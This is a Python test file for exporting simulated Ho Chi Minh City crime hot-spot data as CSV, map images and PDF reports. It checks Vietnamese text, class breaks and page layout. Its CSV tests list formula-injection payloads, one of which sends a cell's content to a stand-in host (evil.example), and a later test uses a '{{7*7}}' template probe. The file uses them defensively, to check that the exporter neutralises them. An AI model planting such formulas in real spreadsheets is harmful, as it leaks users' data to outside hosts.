"""Downloads: CSV for Excel, map PNGs and one-page PDF reports."""
from __future__ import annotations

import csv
import datetime as dt
import io
import logging
import math
import re
import shutil
import subprocess
import warnings

import geopandas as gpd
import mapclassify
import numpy as np
import pandas as pd
import pytest
import shapely
from matplotlib.backends.backend_agg import FigureCanvasAgg
from matplotlib.figure import Figure
from matplotlib.image import imread

from geo.render import exports as ex
from tests.conftest import SHARED_BOUNDARIES

pytestmark = pytest.mark.xdist_group("exports")  # one worker: the module's fixtures are built once

TITLE = "Bản đồ điểm nóng tội phạm – Quý I/2024"
POPPLER = shutil.which("pdfinfo") and shutil.which("pdftotext") and shutil.which("pdftoppm")
needs_poppler = pytest.mark.skipif(not POPPLER, reason="poppler-utils (pdfinfo, pdftotext, pdftoppm) not installed")


@pytest.fixture(scope="module")
def wards() -> gpd.GeoDataFrame:
    g = gpd.read_file(SHARED_BOUNDARIES / "hcmc_wards_2025.geojson")
    rng = np.random.default_rng(138)
    g["count"] = (rng.poisson(20, len(g)) * rng.integers(1, 6, len(g))).astype(float)
    g.loc[g.index[:2], "count"] = np.nan
    g["gi"] = rng.choice(list(ex.gistar_categories("vi")), len(g))
    return g


def _map(wards, **kw) -> bytes:
    args = dict(title=TITLE, subtitle="01/01/2024 – 31/03/2024 · Tất cả loại tội phạm", legend_title="Số vụ",
                attribution="Ranh giới hành chính: hcmc-2025 · dữ liệu mô phỏng")
    return ex.map_png(wards, "count", **{**args, **kw})


@pytest.fixture(scope="module")
def map_bytes(wards) -> bytes:
    return _map(wards)


def _no_glyph_problems(records, log_records) -> list[str]:
    found = [str(w.message) for w in records if "missing from font" in str(w.message) or "Glyph" in str(w.message)]
    found += [r.getMessage() for r in log_records if "findfont" in r.getMessage() or "Glyph" in r.getMessage()]
    return found


# --------------------------------------------------------------------------- CSV

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1+1", "-2+3", "@SUM(A1)",
            "\t=1+1", "\r=1+1"]


def _read(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_neutralises_formulas_but_keeps_numbers_and_vietnamese():
    df = pd.DataFrame({
        "text": PAYLOADS,
        "name": ["Phường Bến Thành", "Xã Côn Đảo", "Phường Gò Vấp", "Phường Sài Gòn", "Ổn định", "ĐỨC"],
        "n": [-5, 0, 12, -1, 3, 4],
        "z": [-2.5, 1.25, -0.001, 3.0, -7.75, 0.5],
        "plain": ["a", "b", "c=d", "x-1", "", None],
    })
    data = ex.csv_bytes(df)
    assert data.startswith(b"\xef\xbb\xbf")                        # BOM so Excel reads UTF-8
    assert data.count(b"\r\n") == len(df) + 1                     # header + rows, CRLF only
    assert b"\n" not in data.replace(b"\r\n", b"")
    rows = _read(data)
    assert rows[0] == ["text", "name", "n", "z", "plain"]
    body = rows[1:]
    assert [r[0] for r in body] == ["'" + p for p in PAYLOADS]
    assert [r[1] for r in body] == df["name"].tolist()             # Vietnamese round-trips
    assert [int(r[2]) for r in body] == df["n"].tolist()           # negative numbers stay numbers
    assert [r[2] for r in body][0] == "-5"
    assert [float(r[3]) for r in body] == df["z"].tolist()
    assert [r[4] for r in body] == ["a", "b", "c=d", "x-1", "", ""]


def test_csv_columns_pick_order_and_rename_and_headers_are_neutralised():
    df = pd.DataFrame({"code": ["26734", "26737"], "count": [3, -1], "name": ["Phường Tân Định", "=cmd"]})
    rows = _read(ex.csv_bytes(df, columns=[("name", "Phường/Xã"), ("count", "-Số vụ"), ("code", "Mã")]))
    assert rows == [["Phường/Xã", "'-Số vụ", "Mã"], ["Phường Tân Định", "3", "26734"], ["'=cmd", "-1", "26737"]]
    with pytest.raises(ValueError, match="nope"):
        ex.csv_bytes(df, columns=[("nope", "X")])


def test_csv_of_a_geodataframe_leaves_the_geometry_out_unless_asked():
    gdf = gpd.GeoDataFrame({"code": ["1"], "d": [pd.Timestamp("2024-03-01 14:30")]},
                           geometry=[shapely.Point(106.7, 10.8)], crs=4326)
    rows = _read(ex.csv_bytes(gdf))
    assert rows == [["code", "d"], ["1", "2024-03-01 14:30:00"]]
    rows = _read(ex.csv_bytes(gdf, columns=[("code", "Mã"), ("geometry", "WKT")]))
    assert rows[1] == ["1", "POINT (106.7 10.8)"]


# --------------------------------------------------------------------------- classes and numbers


@pytest.mark.parametrize("scheme, cls", [("natural_breaks", mapclassify.FisherJenks),
                                         ("quantiles", mapclassify.Quantiles),
                                         ("equal_interval", mapclassify.EqualInterval)])
@pytest.mark.parametrize("k", [3, 5, 7])
def test_classify_matches_mapclassify(scheme, cls, k):
    rng = np.random.default_rng(k)
    y = rng.gamma(2.0, 15.0, 300).round(1)
    with_nan = np.concatenate([y, [np.nan, np.nan]])
    classes = ex.classify(with_nan, scheme, k)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        ref = cls(y, k=k)
    np.testing.assert_array_equal(classes.bins, ref.bins)
    np.testing.assert_array_equal(classes.yb[:-2], ref.yb)
    assert list(classes.yb[-2:]) == [-1, -1]
    assert classes.counts == tuple(ref.counts)
    assert classes.lowest == y.min()


def test_classify_small_and_degenerate_inputs():
    few = ex.classify([0, 0, 0, 1, 1, 2], "natural_breaks", 5)        # fewer values than classes
    assert few.bins == (0.0, 1.0, 2.0) and few.labels("vi") == ["0", "1", "2"]
    one = ex.classify([4, 4, 4], "quantiles", 5)
    assert one.bins == (4.0,) and one.labels() == ["4"]
    none = ex.classify([np.nan, None], "natural_breaks", 5)
    assert none.bins == () and list(none.yb) == [-1, -1]
    counts = ex.classify([0, 3, 4, 9, 10, 11, 30, 31, 1200, 1500], "natural_breaks", 3)
    assert counts.integral
    assert counts.bins == (31.0, 1200.0, 1500.0)
    assert counts.labels("vi") == ["0 – 31", "32 – 1.200", "1.201 – 1.500"]
    assert counts.labels("en") == ["0 – 31", "32 – 1,200", "1,201 – 1,500"]
    lo, hi = counts.limits()[1]
    assert lo == counts.bins[0] + 1 and hi == counts.bins[1]
    rates = ex.classify([0.12, 0.5, 1.75, 2.0, 3.33], "equal_interval", 2)
    assert rates.labels("vi") == ["0,1 – 1,7", "1,7 – 3,3"]
    assert rates.labels("en") == ["0.1 – 1.7", "1.7 – 3.3"]
    with pytest.raises(ValueError, match="scheme"):
        ex.classify([1, 2], "jenks_random")
    with pytest.raises(ValueError, match="k must"):
        ex.classify([1, 2], "quantiles", 0)


def test_natural_breaks_of_many_values_are_deterministic_and_cover_the_data():
    y = np.random.default_rng(0).poisson(8, 5000) * 3
    a, b = ex.classify(y, "natural_breaks", 5), ex.classify(y[::-1], "natural_breaks", 5)
    assert a.bins == b.bins and a.k == 5
    assert a.bins[-1] == y.max() and a.lowest == y.min()
    assert sum(a.counts) == len(y)


def test_scale_bar_lengths_are_round():
    assert ex._nice_length(23_000) == 20_000
    assert ex._nice_length(37_000) == 50_000
    assert ex._nice_length(7_400) == 10_000
    assert ex._nice_length(140) == 100
    assert ex._distance_label(2500, "vi") == "2,5 km"
    assert ex._distance_label(2500, "en") == "2.5 km"
    assert ex._distance_label(500, "vi") == "500 m"


# --------------------------------------------------------------------------- maps


def test_map_png_decodes_at_the_requested_size(map_bytes, wards):
    assert map_bytes.startswith(b"\x89PNG")
    img = imread(io.BytesIO(map_bytes), format="png")
    assert img.shape == (1200, 1200, 4)                             # 8 in × 150 dpi, RGBA
    assert img[..., 3].min() == 1.0                                 # opaque white background
    small = imread(io.BytesIO(_map(wards, dpi=50, size=(6, 4))), format="png")
    assert small.shape == (200, 300, 4)


def test_missing_glyph_check_catches_a_font_without_vietnamese():
    """The check below would see a font without Vietnamese letters (cmr10 has none)."""
    fig = Figure()
    FigureCanvasAgg(fig)
    fig.text(0.1, 0.5, TITLE, family="cmr10")
    with warnings.catch_warnings(record=True) as rec:
        warnings.simplefilter("always")
        fig.savefig(io.BytesIO(), format="png")
    assert _no_glyph_problems(rec, [])


def test_vietnamese_renders_without_missing_glyphs(wards, caplog):
    caplog.set_level(logging.WARNING, logger="matplotlib")
    with warnings.catch_warnings(record=True) as rec:
        warnings.simplefilter("always")
        fig = ex.map_figure(wards, "count", title=TITLE, subtitle="Thời gian: 01/01/2024 – 31/03/2024",
                            legend_title="Số vụ", attribution="Nguồn: Công an TP. Hồ Chí Minh")
        fig.savefig(io.BytesIO(), format="png", dpi=40)
    assert _no_glyph_problems(rec, caplog.records) == []
    texts = [t for t in fig.findobj(lambda a: hasattr(a, "get_text") and hasattr(a, "get_fontname"))
             if t.get_text()]
    assert TITLE in [t.get_text() for t in texts]
    assert {t.get_fontname() for t in texts} == {"DejaVu Sans"}


def test_legend_limits_are_the_class_breaks(wards):
    fig = ex.map_figure(wards, "count", title=TITLE, legend_title="Số vụ", lang="vi")
    ax = fig.axes[0]
    labels = [t.get_text() for t in ax.get_legend().get_texts()]
    assert ax.get_legend().get_title().get_text() == "Số vụ"
    values = wards["count"].dropna().to_numpy()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        ref = mapclassify.FisherJenks(values, k=5)
    classes = ex.classify(wards["count"], "natural_breaks", 5)
    assert labels == classes.labels("vi") + ["Không có dữ liệu"]     # the 2 wards without a value
    uppers = [float(lab.split("–")[-1].strip().replace(".", "").replace(",", ".")) for lab in labels[:5]]
    np.testing.assert_array_equal(uppers, ref.bins)
    assert float(labels[0].split("–")[0].strip().replace(".", "")) == values.min()
    # ward fills: one colour per class, darker upwards, grey for no data
    patches = ax.get_legend().legend_handles
    assert len({tuple(p.get_facecolor()) for p in patches}) == 6
    # north arrow ("B" for Bắc), scale bar in km, attribution, CRS
    texts = [t.get_text() for t in ax.texts]
    assert "B" in texts and "0" in texts and any(re.fullmatch(r"\d+ km", t) for t in texts)
    assert "WGS 84 / UTM zone 48N" in [t.get_text() for t in fig.texts]


def test_english_legend_and_highlight(wards):
    spots = wards.to_crs(32648).iloc[[20, 40]].copy()
    spots["geometry"] = spots.geometry.centroid.buffer(2500)
    wards = wards.assign(rate=np.linspace(0, 2345.678, len(wards)))
    fig = ex.map_figure(wards, "rate", title="Hot spots", lang="en", scheme="equal_interval", k=4,
                        highlight=spots, highlight_label="DBSCAN spots")
    labels = [t.get_text() for t in fig.axes[0].get_legend().get_texts()]
    assert labels == ["0 – 586", "586 – 1,173", "1,173 – 1,759", "1,759 – 2,346", "DBSCAN spots"]
    assert "N" in [t.get_text() for t in fig.axes[0].texts]


def test_gistar_categories_in_legend_order(wards):
    cats = ex.gistar_categories("vi")
    assert list(cats) == ["hot_99", "hot_95", "hot_90", "not_significant", "cold_90", "cold_95", "cold_99"]
    fig = ex.map_figure(wards, "gi", title="Điểm nóng Gi*", categorical=cats, legend_title="Phân loại")
    legend = fig.axes[0].get_legend()
    assert [t.get_text() for t in legend.get_texts()] == [label for label, _c in cats.values()]
    assert [t.get_text() for t in legend.get_texts()][0] == "Điểm nóng (độ tin cậy 99%)"
    assert ex.gistar_categories("en")["cold_95"][0] == "Cold Spot - 95% Confidence"


def test_far_islands_go_into_an_inset(wards):
    metric = wards.to_crs(32648)
    con_dao = metric["name"] == "Đặc khu Côn Đảo"
    assert con_dao.sum() == 1
    fig = ex.map_figure(wards, "count", title=TITLE)
    ax = fig.axes[0]
    assert "Đặc khu Côn Đảo" in [t.get_text() for t in ax.texts]
    ymin = ax.get_ylim()[0]
    assert ymin > metric[con_dao].total_bounds[3]               # the map starts north of Côn Đảo
    plain = ex.map_figure(wards, "count", title=TITLE, insets=False).axes[0]
    assert plain.get_ylim()[0] < metric[con_dao].total_bounds[1]
    assert "Đặc khu Côn Đảo" not in [t.get_text() for t in plain.texts]


def test_map_rejects_bad_input(wards):
    with pytest.raises(ValueError, match="column"):
        ex.map_png(wards, "nope", title="x")
    with pytest.raises(ValueError, match="CRS"):
        ex.map_png(gpd.GeoDataFrame({"v": [1]}, geometry=[shapely.box(0, 0, 1, 1)]), "v", title="x")
    with pytest.raises(ValueError, match="lang"):
        ex.map_png(wards, "count", title="x", lang="fr")


# --------------------------------------------------------------------------- PDF


def _table(wards: gpd.GeoDataFrame, n: int | None = None) -> pd.DataFrame:
    t = wards[["code", "name", "count", "gi"]].sort_values("count", ascending=False).reset_index(drop=True)
    t["share"] = t["count"] / t["count"].sum() * 100
    t["gi"] = t["gi"].map({k: v[0] for k, v in ex.gistar_categories("vi").items()})
    return t if n is None else t.head(n)


COLUMNS = [("code", "Mã"), ("name", "Phường/Xã"), ("count", "Số vụ"), ("share", "Tỷ lệ (%)"),
           ("gi", "Phân loại Gi*")]
#: Rows of the report below: under the map on page 1 (its layout: header, notes), then a full page.
FIRST_PAGE_ROWS, PAGE_ROWS = 16, 48
REPORT_TITLE = "Báo cáo điểm nóng tội phạm – Quý I/2024"


@pytest.fixture(scope="module")
def report(wards, map_bytes) -> bytes:
    return ex.report_pdf(title=REPORT_TITLE, period_text="01/01/2024 – 31/03/2024",
                         filters_text="Loại: trộm cắp tài sản, cướp giật; ranh giới hcmc-2025",
                         map_png=map_bytes, table=_table(wards), table_columns=COLUMNS,
                         notes=["Dữ liệu mô phỏng, chỉ dùng để minh họa.",
                                "Gi* với hiệu chỉnh FDR; phường không có dữ liệu tô màu xám."],
                         generated=dt.date(2024, 4, 5))


def test_report_is_a4_pages_with_embedded_dejavu(report, wards):
    assert report.startswith(b"%PDF")
    # the map and the first rows, then pages of rows: more than one page for these wards
    assert len(re.findall(rb"/Type /Page\b", report)) == math.ceil((len(wards) - FIRST_PAGE_ROWS) / PAGE_ROWS) + 1
    box = [float(v) for v in re.search(rb"/MediaBox \[ ?([\d. ]+?) ?\]", report).group(1).split()]
    assert box[:2] == [0, 0] and abs(box[2] - 595.28) < 1 and abs(box[3] - 841.89) < 1   # 210 × 297 mm
    assert b"DejaVuSans" in report and b"/FontFile2" in report                         # embedded TrueType


def _pdftext(pdf: bytes, tmp_path) -> str:
    path = tmp_path / "report.pdf"
    path.write_bytes(pdf)
    return subprocess.run(["pdftotext", "-layout", str(path), "-"], check=True, capture_output=True,
                          text=True).stdout


@needs_poppler
def test_report_text_and_rendering(report, wards, tmp_path):
    path = tmp_path / "report.pdf"
    path.write_bytes(report)
    info = subprocess.run(["pdfinfo", str(path)], check=True, capture_output=True, text=True).stdout
    pages = int(re.search(r"^Pages:\s+(\d+)$", info, re.M).group(1))
    assert pages > 1
    assert "(A4)" in info
    text = _pdftext(report, tmp_path)
    assert REPORT_TITLE in text
    assert "Thời gian: 01/01/2024 – 31/03/2024" in text
    assert "Bộ lọc: Loại: trộm cắp tài sản, cướp giật" in text
    assert "Ngày lập báo cáo: 05/04/2024" in text and all(f"Trang {i}/{pages}" in text for i in range(1, pages + 1))
    assert "Dữ liệu mô phỏng, chỉ dùng để minh họa." in text
    assert "dòng khác" not in text
    first = _table(wards).iloc[0]
    assert re.search(rf"{first['code']}\s+{first['name']}\s+{int(first['count'])}\b", text)
    # every row, in the table's order, across both pages (the header repeated on the second)
    at = [re.search(rf"^\s*{code}\s", text, re.M) for code in _table(wards)["code"]]
    assert all(at) and [m.start() for m in at] == sorted(m.start() for m in at)
    assert text.count("Phường/Xã") == pages
    subprocess.run(["pdftoppm", "-r", "50", "-png", "-singlefile", str(path), str(tmp_path / "page")], check=True)
    page = imread(tmp_path / "page.png")
    assert page.shape[:2] == (585, 414)                          # A4 at 50 dpi
    assert page[..., :3].mean() > 0.7                            # a mostly white page with content
    assert page[..., :3].min() < 0.2


@needs_poppler
def test_report_in_english_with_a_short_table(wards, map_bytes, tmp_path):
    pdf = ex.report_pdf(title="Crime hot spots – Q1 2024", period_text="1 January – 31 March 2024",
                        filters_text="All categories", map_png=map_bytes, table=_table(wards, 3),
                        table_columns=COLUMNS, lang="en", generated=dt.date(2024, 4, 1))
    text = _pdftext(pdf, tmp_path)
    assert "Crime hot spots – Q1 2024" in text and "Time period: 1 January – 31 March 2024" in text
    assert "Report generated on 01/04/2024" in text and "Page 1/1" in text
    assert "more rows" not in text and "dòng khác" not in text
    empty = ex.report_pdf(title="Nothing", period_text="–", filters_text="–", map_png=map_bytes,
                          table=_table(wards, 0), table_columns=COLUMNS, lang="en")
    assert "No rows." in _pdftext(empty, tmp_path)


def test_report_rejects_unknown_columns(wards, map_bytes):
    with pytest.raises(ValueError, match="nope"):
        ex.report_pdf(title="x", period_text="", filters_text="", map_png=map_bytes, table=_table(wards),
                      table_columns=[("nope", "N")])


def test_dollar_signs_in_names_are_text_not_mathtext(wards, tmp_path):
    # matplotlib reads "$...$" as a formula by default, and "$\x$" is one it cannot parse
    named = wards.copy()
    named.loc[named.index[0], "name"] = r"Phường $\x$ 50$"
    png = _map(named, title=r"Khu vực $\x$ và {{7*7}}")
    assert imread(io.BytesIO(png), format="png").shape[0] > 0
    pdf = ex.report_pdf(title=r"Báo cáo $\x$", period_text="01/01/2024 – 31/03/2024", filters_text="$5$",
                        map_png=png, table=_table(named, 5), table_columns=COLUMNS, notes=[],
                        generated=dt.date(2024, 4, 5))
    text = _pdftext(pdf, tmp_path)
    assert r"Báo cáo $\x$" in text and "$5$" in text
